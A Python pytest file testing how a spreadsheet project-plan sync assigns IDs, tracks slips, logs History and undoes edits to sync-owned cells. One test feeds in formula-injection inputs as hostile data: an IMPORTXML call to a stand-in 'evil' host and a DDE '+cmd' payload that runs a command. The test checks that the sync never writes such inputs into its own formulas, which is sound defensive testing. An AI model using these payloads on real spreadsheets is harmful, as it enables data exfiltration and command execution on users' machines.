"""The sync planned as data: IDs, baselines, slips, History, notes and undone edits — in memory."""

from datetime import UTC, date, datetime, timedelta

import pytest

from map_workspace import app
from map_workspace.changes import apply_in_memory, note_block
from map_workspace.config import Config
from map_workspace.domain.model import Person
from map_workspace.layout import HISTORY, OVERVIEW, PLAN, PLAN_TAB, TABLE_TABS, Owner
from map_workspace.sync import plan_sync
from tests.unit.snapshot_edit import SnapshotEditor

CREATED = date(2026, 3, 2)
NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def created():
    req = app.CreateRequest(
        "Acme rollout", date(2026, 6, 30),
        [Person.parse("Dana Tanaka <dana@acme.com>"), Person.parse("Lee Chen <lee@acme.com>")],
        [Person.parse("Sam Rivera <sam@seller.io>")],
        roles={"buyer.cfo": Person.parse("Priya Shah <priya@acme.com>")},
    )
    new = app.build_new_plan(req, Config(), CREATED, NOW)
    snapshot, plan = new.snapshot, new.plan
    return snapshot, plan


def sync(snapshot, today=CREATED):
    return plan_sync(snapshot, today, now=NOW.replace(day=today.day, month=today.month))


def settle(snapshot, today=CREATED):
    """Apply one sync, check the next one plans nothing, return the result and new snapshot."""
    result = sync(snapshot, today)
    after = apply_in_memory(snapshot, result.changes)
    assert sync(after, today).changes.is_empty, sync(after, today).changes.describe()
    return result, after


def history(result, field=None):
    return [h for h in result.changes.history if field is None or h.field == field]


def test_a_new_plan_needs_no_further_changes(created):
    snapshot, plan = created
    assert sync(snapshot).changes.is_empty
    assert {i.id for i in plan.items} >= {"T-01", "M-01"}


def test_new_row_gets_the_next_id_a_baseline_and_a_history_row(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    row = ed.add_row(activity="Reference call", owner="Lee Chen", due=date(2026, 4, 10), status="Not started")
    result, after = settle(ed.snapshot)
    tasks = sorted(int(i.id[2:]) for i in plan.items if i.id.startswith("T-"))
    new_id = f"T-{tasks[-1] + 1:02d}"
    ed2 = SnapshotEditor(after)
    assert ed2.value_at(row, "id") == new_id
    assert ed2.value(new_id, "baseline") == date(2026, 4, 10)
    assert any(h.id == new_id and h.field == "Row" and h.to == "Reference call" for h in history(result))


def test_deleted_row_is_logged_and_its_id_never_reused(created):
    snapshot, plan = created
    last = max((i.id for i in plan.items if i.id.startswith("T-")), key=lambda x: int(x[2:]))
    ed = SnapshotEditor(snapshot)
    ed.delete(last)
    result, after = settle(ed.snapshot)
    assert any(h.id == last and h.field == "Row" and "removed" in h.note for h in history(result))
    ed = SnapshotEditor(after)
    row = ed.add_row(activity="Something new", owner="Lee Chen", due=date(2026, 4, 10))
    _, after2 = settle(ed.snapshot)
    assert SnapshotEditor(after2).value_at(row, "id") == f"T-{int(last[2:]) + 1:02d}"


def test_slips_are_counted_only_when_the_due_date_moves_later(created):
    snapshot, plan = created
    ms = next(i for i in plan.items if i.is_milestone and i.due and i.due > CREATED + timedelta(days=30))
    ed = SnapshotEditor(snapshot)
    ed.set(ms.id, "due", ms.due + timedelta(days=7))
    result, after = settle(ed.snapshot)
    ed = SnapshotEditor(after)
    assert ed.value(ms.id, "slips") == 1
    assert ed.value(ms.id, "baseline") == ms.due
    slip = history(result, "Due")[0]
    assert (slip.id, slip.from_, slip.to) == (ms.id, ms.due.isoformat(), (ms.due + timedelta(days=7)).isoformat())
    ed.set(ms.id, "due", ms.due + timedelta(days=3))  # earlier again: not a slip
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value(ms.id, "slips") == 1
    assert "earlier" in history(result, "Due")[0].note
    ed = SnapshotEditor(after)
    ed.set(ms.id, "due", ms.due + timedelta(days=14))
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value(ms.id, "slips") == 2
    assert "slip.milestone_repeated" in {f.code for f in result.findings}


def test_status_and_owner_changes_are_logged_and_buyer_text_kept(created):
    snapshot, plan = created
    item = plan.items[0]
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "status", "complete")
    ed.set(item.id, "owner", "Lee Chen")
    result, after = settle(ed.snapshot)
    assert [(h.from_, h.to) for h in history(result, "Status")] == [("Not started", "Done")]
    assert [(h.id, h.to) for h in history(result, "Owner")] == [(item.id, "Lee Chen")]
    assert SnapshotEditor(after).value(item.id, "status") == "complete"  # left as typed


def test_edits_to_sync_owned_cells_are_undone_and_logged(created):
    snapshot, plan = created
    item = plan.items[1]
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "baseline", date(2030, 1, 1))
    ed.set(item.id, "slips", 9)
    ed.set(item.id, "flag", "all good!")
    result, after = settle(ed.snapshot)
    ed = SnapshotEditor(after)
    assert ed.value(item.id, "baseline") == item.baseline
    assert ed.value(item.id, "slips") == 0
    assert ed.formula(item.id, "flag").startswith("=")
    undone = {h.field for h in history(result) if "undone" in h.note}
    assert undone == {"Baseline", "Slips", "Flag"}


def test_a_copied_row_gets_its_own_id(created):
    snapshot, plan = created
    item = plan.items[2]
    ed = SnapshotEditor(snapshot)
    row = ed.add_row(id=item.id, activity=item.activity + " (copy)", owner="Lee Chen", due=date(2026, 4, 1))
    result, after = settle(ed.snapshot)
    new_id = SnapshotEditor(after).value_at(row, "id")
    assert new_id != item.id and new_id.startswith(item.id[0])
    assert any(h.field == "ID" and h.from_ == item.id for h in history(result))


def test_notes_added_on_problem_cells_and_removed_when_fixed_keeping_the_buyers_note(created):
    snapshot, plan = created
    item = next(i for i in plan.items if i.owner)
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "owner", "the IT team")
    ed.note(item.id, "owner", "Dana: we will decide on Monday")
    result, after = settle(ed.snapshot)
    note = SnapshotEditor(after).note(item.id, "owner")
    assert note.startswith("Dana: we will decide on Monday")
    assert any("group, not a person" in line for line in note_block(note))
    assert "Needs owner" in SnapshotEditor(after).formula(item.id, "flag")
    ed = SnapshotEditor(after)
    ed.set(item.id, "owner", "Lee Chen")
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).note(item.id, "owner") == "Dana: we will decide on Monday"
    assert "Needs owner" not in SnapshotEditor(after).formula(item.id, "flag")


def test_the_changeset_never_writes_a_buyer_cell(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    for i, item in enumerate(plan.items[:8]):
        ed.set(item.id, "owner", ["IT", "", "TBD", "Dana and Lee", "Jo Bloggs", "Dana", "Acme", "x"][i])
        ed.set(item.id, "due", ["next Friday", "Q3", "", date(1900, 1, 1), "2026-02-30", "TBD", 5, "?"][i])
        ed.set(item.id, "status", ["wip", "✅", "soon", "", "garbage", "N/A", "Blocked", "done!"][i])
    ed.add_row(activity="=IMPORTXML(\"http://evil\",\"//a\")", owner="@SUM(1)", due="+cmd|' /C calc'!A0")
    result = sync(ed.snapshot)
    buyer_cols = {PLAN: {c.key for c in PLAN_TAB.columns if c.owner is Owner.BUYER}}
    for write in result.changes.cells:
        if write.tab in TABLE_TABS:
            spec = TABLE_TABS[write.tab]
            assert write.field in {c.key for c in spec.columns if c.owner is Owner.SYNC}, write
        else:
            assert write.tab == OVERVIEW and write.col == 1
        assert write.formula is None or "IMPORTXML" not in write.formula
    assert buyer_cols
    _, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value_at(ed.rows[-1], "activity").startswith("=IMPORTXML")


def test_history_entries_carry_an_iso_timestamp_with_offset(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    ed.set(plan.items[0].id, "status", "Done")
    result, after = settle(ed.snapshot)
    when = history(result)[0].when
    assert datetime.fromisoformat(when).utcoffset() is not None
    grid = after.tabs[HISTORY]
    assert grid.rows[-1][3].value == "Status"  # When · ID · Activity · Field


def test_overview_last_changed_is_stamped_only_when_something_changed(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    ed.set(plan.items[0].id, "status", "Done")
    result = sync(ed.snapshot)
    assert any(w.field == "last_changed" for w in result.changes.cells)
    assert not any(w.field == "last_changed" for w in sync(snapshot).changes.cells)
